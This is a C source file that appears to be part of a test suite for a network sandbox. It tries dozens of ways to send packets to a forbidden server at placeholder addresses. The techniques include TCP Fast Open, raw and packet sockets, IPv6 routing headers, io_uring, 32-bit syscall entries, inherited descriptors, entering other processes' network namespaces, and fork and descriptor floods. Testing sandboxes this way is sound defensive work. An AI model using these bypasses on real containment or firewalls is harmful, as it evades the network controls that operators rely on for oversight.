/* attack NAME: one way to reach the forbidden server, tried for real. Whether it worked is told by the server alone. */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef TCP_FASTOPEN_CONNECT
#define TCP_FASTOPEN_CONNECT 30
#endif

static struct sockaddr_in6 bad6 = { .sin6_family = AF_INET6 }, good6 = { .sin6_family = AF_INET6 }, mapped;

static void settle(int fd)
{
	struct pollfd p = { fd, POLLOUT | POLLIN, 0 };

	poll(&p, 1, 200);
}

static int stream(int domain, int proto)
{
	int s = socket(domain, SOCK_STREAM | SOCK_NONBLOCK, proto), on = 1;

	setsockopt(s, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	return s;
}

static int try_connect(int s, const void *to, socklen_t len)
{
	int r = connect(s, to, len);

	settle(s);
	if (send(s, payload, sizeof(payload), MSG_NOSIGNAL) < 0) { /* only the packet counts */
	}
	return r;
}

static int tcp(void)
{
	try_connect(stream(AF_INET, 0), &bad, sizeof(bad));
	return 0;
}

static int tcp_blocking(void)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);

	connect(s, (struct sockaddr *)&bad, sizeof(bad));
	return 0;
}

static int tcp6(void)
{
	try_connect(stream(AF_INET6, 0), &bad6, sizeof(bad6));
	return 0;
}

static int tcp_mapped(void)
{
	try_connect(stream(AF_INET6, 0), &mapped, sizeof(mapped));
	return 0;
}

static int odd_lengths(void)
{
	char big[128] = { 0 };
	long page = sysconf(_SC_PAGESIZE);
	char *edge = mmap(NULL, (size_t)page * 2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	memcpy(big, &bad, sizeof(bad));
	for (socklen_t len = 0; len <= sizeof(big); len += 8)
		try_connect(stream(AF_INET, 0), big, len);
	try_connect(stream(AF_INET, 0), big, 1 << 20);
	try_connect(stream(AF_INET, 0), big, (socklen_t)-1);
	mprotect(edge + page, (size_t)page, PROT_NONE);
	memcpy(edge + page - sizeof(bad), &bad, sizeof(bad));
	try_connect(stream(AF_INET, 0), edge + page - sizeof(bad), sizeof(bad));
	try_connect(stream(AF_INET, 0), edge + page - sizeof(bad), 128);
	return 0;
}

static int int_high_half(void)
{
	int s = stream(AF_INET, 0);

	syscall(SYS_connect, (long)s | (1l << 40), &bad, (long)sizeof(bad) | (1l << 40));
	settle(s);
	return 0;
}

static int tfo_sendto(void)
{
	int s = stream(AF_INET, 0);

	sendto(s, payload, sizeof(payload), MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&bad, sizeof(bad));
	settle(s);
	return 0;
}

static void message(struct msghdr *m, struct iovec *io, const void *to, socklen_t len)
{
	*io = (struct iovec){ (void *)payload, sizeof(payload) };
	*m = (struct msghdr){ .msg_name = (void *)to, .msg_namelen = len, .msg_iov = io, .msg_iovlen = 1 };
}

static int tfo_sendmsg(void)
{
	int s = stream(AF_INET, 0);
	struct msghdr m;
	struct iovec io;

	message(&m, &io, &bad, sizeof(bad));
	sendmsg(s, &m, MSG_FASTOPEN | MSG_NOSIGNAL);
	settle(s);
	return 0;
}

static int tfo_sendmmsg(void)
{
	int s = stream(AF_INET, 0);
	struct mmsghdr m[1];
	struct iovec io;

	message(&m[0].msg_hdr, &io, &bad, sizeof(bad));
	sendmmsg(s, m, 1, MSG_FASTOPEN | MSG_NOSIGNAL);
	settle(s);
	return 0;
}

static int tfo_connect(void)
{
	int s = stream(AF_INET, 0), on = 1;

	setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on));
	try_connect(s, &bad, sizeof(bad));
	return 0;
}

static int mptcp(void)
{
	int s = stream(AF_INET, IPPROTO_MPTCP);

	if (s < 0)
		return absent("MPTCP");
	try_connect(s, &bad, sizeof(bad));
	return 0;
}

static int other_streams(void)
{
	int s1 = socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP), s2 = socket(AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP);
	int s3 = socket(AF_INET, SOCK_DCCP, IPPROTO_DCCP), s4 = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);

	if (s1 < 0 && s2 < 0 && s3 < 0 && s4 < 0)
		return absent("SCTP, DCCP and UDP-Lite");
	sendto(s4, payload, sizeof(payload), 0, (struct sockaddr *)&bad, sizeof(bad));
	sendto(s2, payload, sizeof(payload), 0, (struct sockaddr *)&bad, sizeof(bad));
	connect(s1, (struct sockaddr *)&bad, sizeof(bad));
	connect(s3, (struct sockaddr *)&bad, sizeof(bad));
	return 0;
}

static int udp_sendto(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	for (int i = 0; i < 3; i++)
		sendto(s, payload, sizeof(payload), MSG_CONFIRM, (struct sockaddr *)&bad, sizeof(bad));
	return 0;
}

static int udp_mapped(void)
{
	int s = socket(AF_INET6, SOCK_DGRAM, 0);

	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&mapped, sizeof(mapped));
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&bad6, sizeof(bad6));
	return 0;
}

static int udp_connected(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	connect(s, (struct sockaddr *)&bad, sizeof(bad));
	send(s, payload, sizeof(payload), MSG_NOSIGNAL);
	return 0;
}

static int udp_reconnect(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr none = { .sa_family = AF_UNSPEC };

	connect(s, (struct sockaddr *)&good, sizeof(good));
	send(s, payload, sizeof(payload), MSG_NOSIGNAL);
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&bad, sizeof(bad));
	connect(s, &none, sizeof(none));
	connect(s, (struct sockaddr *)&bad, sizeof(bad));
	send(s, payload, sizeof(payload), MSG_NOSIGNAL);
	return 0;
}

static int udp_unspec(void)
{
	struct sockaddr_in a = bad;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	a.sin_family = AF_UNSPEC; /* the kernel takes it for AF_INET */
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&a, sizeof(a));
	return 0;
}

static int udp_batch(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct mmsghdr m[16];
	struct iovec io[16];

	for (int i = 0; i < 16; i++)
		message(&m[i].msg_hdr, &io[i], i % 4 == 3 ? &bad : &good, sizeof(bad));
	sendmmsg(s, m, 16, 0);
	return 0;
}

static int udp_more(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	sendto(s, payload, sizeof(payload), MSG_MORE, (struct sockaddr *)&bad, sizeof(bad));
	send(s, payload, sizeof(payload), 0);
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&good, sizeof(good));
	return 0;
}

static int pktinfo(void)
{
	char control[CMSG_SPACE(sizeof(struct in_pktinfo))] = { 0 };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct in_pktinfo info = { 0 };
	struct cmsghdr *c;
	struct msghdr m;
	struct iovec io;

	message(&m, &io, &bad, sizeof(bad));
	m.msg_control = control;
	m.msg_controllen = sizeof(control);
	c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = IPPROTO_IP;
	c->cmsg_type = IP_PKTINFO;
	c->cmsg_len = CMSG_LEN(sizeof(info));
	for (int i = 0; i < 8; i++) { /* every device there could be */
		info.ipi_ifindex = i;
		memcpy(CMSG_DATA(c), &info, sizeof(info));
		sendmsg(s, &m, 0);
	}
	return 0;
}

static int bind_device(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0), mark = 1;
	struct if_nameindex *list = if_nameindex();

	setsockopt(s, SOL_SOCKET, SO_MARK, &mark, sizeof(mark));
	for (struct if_nameindex *i = list; i && i->if_index; i++) {
		setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, i->if_name, (socklen_t)strlen(i->if_name));
		sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&bad, sizeof(bad));
	}
	return 0;
}

/* A segment routing header: the packet leaves for the segment, whatever connect said. */
static int routing_header(void)
{
	struct {
		uint8_t next, len, type, left, last, flags;
		uint16_t tag;
		struct in6_addr segments[2];
	} srh = { 0, 4, 4, 1, 1, 0, 0, { good6.sin6_addr, bad6.sin6_addr } };
	int u = socket(AF_INET6, SOCK_DGRAM, 0), t = stream(AF_INET6, 0);

	setsockopt(u, IPPROTO_IPV6, IPV6_RTHDR, &srh, sizeof(srh));
	setsockopt(t, IPPROTO_IPV6, IPV6_RTHDR, &srh, sizeof(srh));
	sendto(u, payload, sizeof(payload), 0, (struct sockaddr *)&good6, sizeof(good6));
	try_connect(t, &good6, sizeof(good6));
	return 0;
}

static int ping_socket(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP), r = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	struct icmphdr echo = { .type = ICMP_ECHO };

	sendto(s, &echo, sizeof(echo), 0, (struct sockaddr *)&bad, sizeof(bad));
	connect(s, (struct sockaddr *)&bad, sizeof(bad));
	send(s, &echo, sizeof(echo), 0);
	sendto(r, &echo, sizeof(echo), 0, (struct sockaddr *)&bad, sizeof(bad));
	return 0;
}

static int raw_udp(void)
{
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_UDP), h = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	struct udphdr u = { .uh_sport = htons(1), .uh_dport = htons(2), .uh_ulen = htons(8) };

	sendto(s, &u, sizeof(u), 0, (struct sockaddr *)&bad, sizeof(bad));
	close(h);
	return 0;
}

static int packet_socket(void)
{
	unsigned char ip[28] = { 0x45, 0, 0, 28, 0, 1, 0, 0, 64, 17, 0, 0, 203, 0, 113, 1 };
	struct if_nameindex *list = if_nameindex();
	int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));

	memcpy(ip + 16, &bad.sin_addr, 4);
	for (struct if_nameindex *i = list; i && i->if_index; i++) {
		struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
			.sll_ifindex = (int)i->if_index, .sll_halen = 6, .sll_addr = { 255, 255, 255, 255, 255, 255 } };

		sendto(s, ip, sizeof(ip), 0, (struct sockaddr *)&to, sizeof(to));
	}
	return 0;
}

/* A socket that was allowed once is dissolved and used again. */
static int dissolve(void)
{
	struct sockaddr none = { .sa_family = AF_UNSPEC };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	connect(s, (struct sockaddr *)&good, sizeof(good));
	connect(s, &none, sizeof(none));
	fcntl(s, F_SETFL, O_NONBLOCK);
	sendto(s, payload, sizeof(payload), MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&bad, sizeof(bad));
	settle(s);
	connect(s, &none, sizeof(none));
	try_connect(s, &bad, sizeof(bad));
	return 0;
}

static int io_uring(void)
{
	struct io_uring_params p = { 0 };
	int ring = (int)syscall(SYS_io_uring_setup, 8, &p), s = stream(AF_INET, 0);
	char *sq, *sqes;
	unsigned tail;
	struct io_uring_sqe *e;

	if (ring < 0)
		return absent("io_uring");
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*e), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	e = (struct io_uring_sqe *)sqes;
	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_CONNECT;
	e->fd = s;
	e->addr = (uintptr_t)&bad;
	e->off = sizeof(bad);
	tail = *(unsigned *)(sq + p.sq_off.tail);
	((unsigned *)(sq + p.sq_off.array))[tail & *(unsigned *)(sq + p.sq_off.ring_mask)] = 0;
	__atomic_store_n((unsigned *)(sq + p.sq_off.tail), tail + 1, __ATOMIC_RELEASE);
	syscall(SYS_io_uring_enter, ring, 1, 0, 0, NULL, 0);
	settle(s);
	return 0;
}

#ifdef __x86_64__
static long int80(long nr, long a, long b, long c)
{
	long r;

	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	return r;
}

/* The 32-bit entry: connect and sendto by their own numbers, and by socketcall. */
static int i386_entry(void)
{
	struct low {
		struct sockaddr_in to;
		uint32_t args[6];
		char text[8];
	} *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int t = stream(AF_INET, 0), u = socket(AF_INET, SOCK_DGRAM, 0), v = stream(AF_INET, 0);

	low->to = bad;
	int80(362, t, (long)&low->to, sizeof(low->to)); /* connect */
	settle(t);
	low->args[0] = (uint32_t)v;
	low->args[1] = (uint32_t)(uintptr_t)&low->to;
	low->args[2] = sizeof(low->to);
	int80(102, 3, (long)low->args, 0); /* socketcall(SYS_CONNECT) */
	settle(v);
	low->args[0] = (uint32_t)u;
	low->args[1] = (uint32_t)(uintptr_t)low->text;
	low->args[2] = 4;
	low->args[3] = 0;
	low->args[4] = (uint32_t)(uintptr_t)&low->to;
	low->args[5] = sizeof(low->to);
	int80(102, 11, (long)low->args, 0); /* socketcall(SYS_SENDTO) */
	return 0;
}

static int x32_entry(void)
{
	int s = stream(AF_INET, 0);

	if (syscall(SYS_getpid | 0x40000000) < 0 && errno == ENOSYS && !getenv("INSIDE"))
		return absent("the x32 entry");
	syscall(SYS_connect | 0x40000000, s, &bad, sizeof(bad));
	settle(s);
	return 0;
}
#endif

static int multicast(void)
{
	struct sockaddr_in group = { .sin_family = AF_INET, .sin_port = htons(7000) };
	struct sockaddr_in6 group6 = { .sin6_family = AF_INET6, .sin6_port = htons(7000) };
	int s = socket(AF_INET, SOCK_DGRAM, 0), s6 = socket(AF_INET6, SOCK_DGRAM, 0), on = 1;
	struct if_nameindex *list = if_nameindex();

	inet_pton(AF_INET, "239.1.2.3", &group.sin_addr);
	inet_pton(AF_INET6, "ff05::123", &group6.sin6_addr);
	setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	for (struct if_nameindex *i = list; i && i->if_index; i++) {
		struct ip_mreqn device = { .imr_ifindex = (int)i->if_index };

		setsockopt(s, IPPROTO_IP, IP_MULTICAST_IF, &device, sizeof(device));
		group6.sin6_scope_id = i->if_index;
		sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&group, sizeof(group));
		sendto(s6, payload, sizeof(payload), 0, (struct sockaddr *)&group6, sizeof(group6));
	}
	inet_pton(AF_INET, "255.255.255.255", &group.sin_addr);
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&group, sizeof(group));
	return 0;
}

/* Every descriptor that came in is asked to carry something to the forbidden server. */
static int inherited(void)
{
	for (int fd = 0; fd < 1024; fd++) {
		int type;
		socklen_t len = sizeof(type);

		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len))
			continue;
		sendto(fd, payload, sizeof(payload), MSG_NOSIGNAL | MSG_DONTWAIT, (struct sockaddr *)&bad, sizeof(bad));
		send(fd, payload, sizeof(payload), MSG_NOSIGNAL | MSG_DONTWAIT);
	}
	for (int fd = 0; fd < 1024; fd++)
		if (setns(fd, CLONE_NEWNET) == 0)
			tcp();
	return 0;
}

static int namespaces(void)
{
	static const int flags[] = { CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWUSER | CLONE_NEWNET, CLONE_NEWNS };
	char path[64];
	int made = 0;

	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		pid_t pid = fork();
		int status;

		if (pid == 0)
			_exit(unshare(flags[i]) == 0);
		waitpid(pid, &status, 0);
		made += WEXITSTATUS(status);
		made += syscall(SYS_clone3, NULL, 0) < 0 && errno != ENOSYS;
	}
	for (int pid = 1; pid < 400; pid++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/ns/net", pid);
		fd = open(path, O_RDONLY);
		if (fd >= 0 && setns(fd, 0) == 0)
			tcp();
		if (fd >= 0)
			close(fd);
	}
	printf("made %d\n", made);
	tcp(); /* so that the control leaks */
	return 0;
}

static int flood(void)
{
	for (int i = 0; i < 64; i++)
		if (fork() == 0) {
			for (int k = 0; k < 20; k++) {
				tcp_blocking();
				udp_sendto();
			}
			_exit(0);
		}
	while (wait(NULL) > 0) {
	}
	return 0;
}

/* No descriptor is left in the table: whatever is to be put there cannot land. */
static int full_table(void)
{
	int s = stream(AF_INET, 0), u = socket(AF_INET, SOCK_DGRAM, 0);

	while (dup(0) >= 0) {
	}
	try_connect(s, &bad, sizeof(bad));
	sendto(u, payload, sizeof(payload), 0, (struct sockaddr *)&bad, sizeof(bad));
	return 0;
}

static int families(void)
{
	static const struct {
		int domain, type, proto;
		const char *name;
	} list[] = { { AF_PACKET, SOCK_RAW, 0, "packet" }, { AF_INET, SOCK_RAW, 1, "raw" }, { AF_INET6, SOCK_RAW, 58, "raw6" },
		{ 40, SOCK_STREAM, 0, "vsock" }, { 38, SOCK_SEQPACKET, 0, "alg" }, { 44, SOCK_RAW, 0, "xdp" },
		{ AF_NETLINK, SOCK_RAW, 12, "nfnetlink" }, { AF_NETLINK, SOCK_RAW, 15, "uevent" }, { 29, SOCK_RAW, 1, "can" },
		{ AF_UNIX, SOCK_DGRAM, 0, "unix datagram" }, { 31, SOCK_RAW, 1, "bluetooth" }, { 30, SOCK_DGRAM, 0, "tipc" },
		{ AF_INET, SOCK_STREAM, IPPROTO_SCTP, "sctp" }, { 43, SOCK_STREAM, 0, "smc" }, { 21, SOCK_SEQPACKET, 0, "rds" } };
	int pair[2];

	for (size_t i = 0; i < sizeof(list) / sizeof(list[0]); i++)
		if (socket(list[i].domain, list[i].type, list[i].proto) >= 0)
			printf("open %s\n", list[i].name);
	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0)
		printf("open unix datagram pair\n");
	return 0;
}

static const struct attack attacks[] = {
	{ "tcp", tcp }, { "tcp-blocking", tcp_blocking }, { "tcp6", tcp6 }, { "tcp-mapped", tcp_mapped },
	{ "odd-lengths", odd_lengths }, { "int-high-half", int_high_half }, { "tfo-sendto", tfo_sendto },
	{ "tfo-sendmsg", tfo_sendmsg }, { "tfo-sendmmsg", tfo_sendmmsg }, { "tfo-connect", tfo_connect },
	{ "mptcp", mptcp }, { "other-streams", other_streams }, { "udp-sendto", udp_sendto }, { "udp-mapped", udp_mapped },
	{ "udp-connected", udp_connected }, { "udp-reconnect", udp_reconnect }, { "udp-unspec", udp_unspec },
	{ "udp-batch", udp_batch }, { "udp-more", udp_more }, { "pktinfo", pktinfo }, { "bind-device", bind_device },
	{ "routing-header", routing_header }, { "ping-socket", ping_socket }, { "raw-udp", raw_udp },
	{ "packet-socket", packet_socket }, { "dissolve", dissolve }, { "io-uring", io_uring },
#ifdef __x86_64__
	{ "i386", i386_entry }, { "x32", x32_entry },
#endif
	{ "multicast", multicast }, { "inherited", inherited },
	{ "namespaces", namespaces }, { "flood", flood }, { "full-table", full_table }, { "families", families },
	{ NULL, NULL },
};

int main(int argc, char **argv)
{
	bad6.sin6_port = good6.sin6_port = htons(80);
	inet_pton(AF_INET6, forbidden("FORBIDDEN6", "2001:db8::a"), &bad6.sin6_addr);
	inet_pton(AF_INET6, "2001:db8::9", &good6.sin6_addr);
	mapped = bad6;
	inet_pton(AF_INET, forbidden("FORBIDDEN4", "203.0.113.10"), &bad.sin_addr);
	memset(&mapped.sin6_addr, 0, 10);
	memset(mapped.sin6_addr.s6_addr + 10, 0xff, 2);
	memcpy(mapped.sin6_addr.s6_addr + 12, &bad.sin_addr, 4);
	return attack_main(argc, argv, attacks);
}
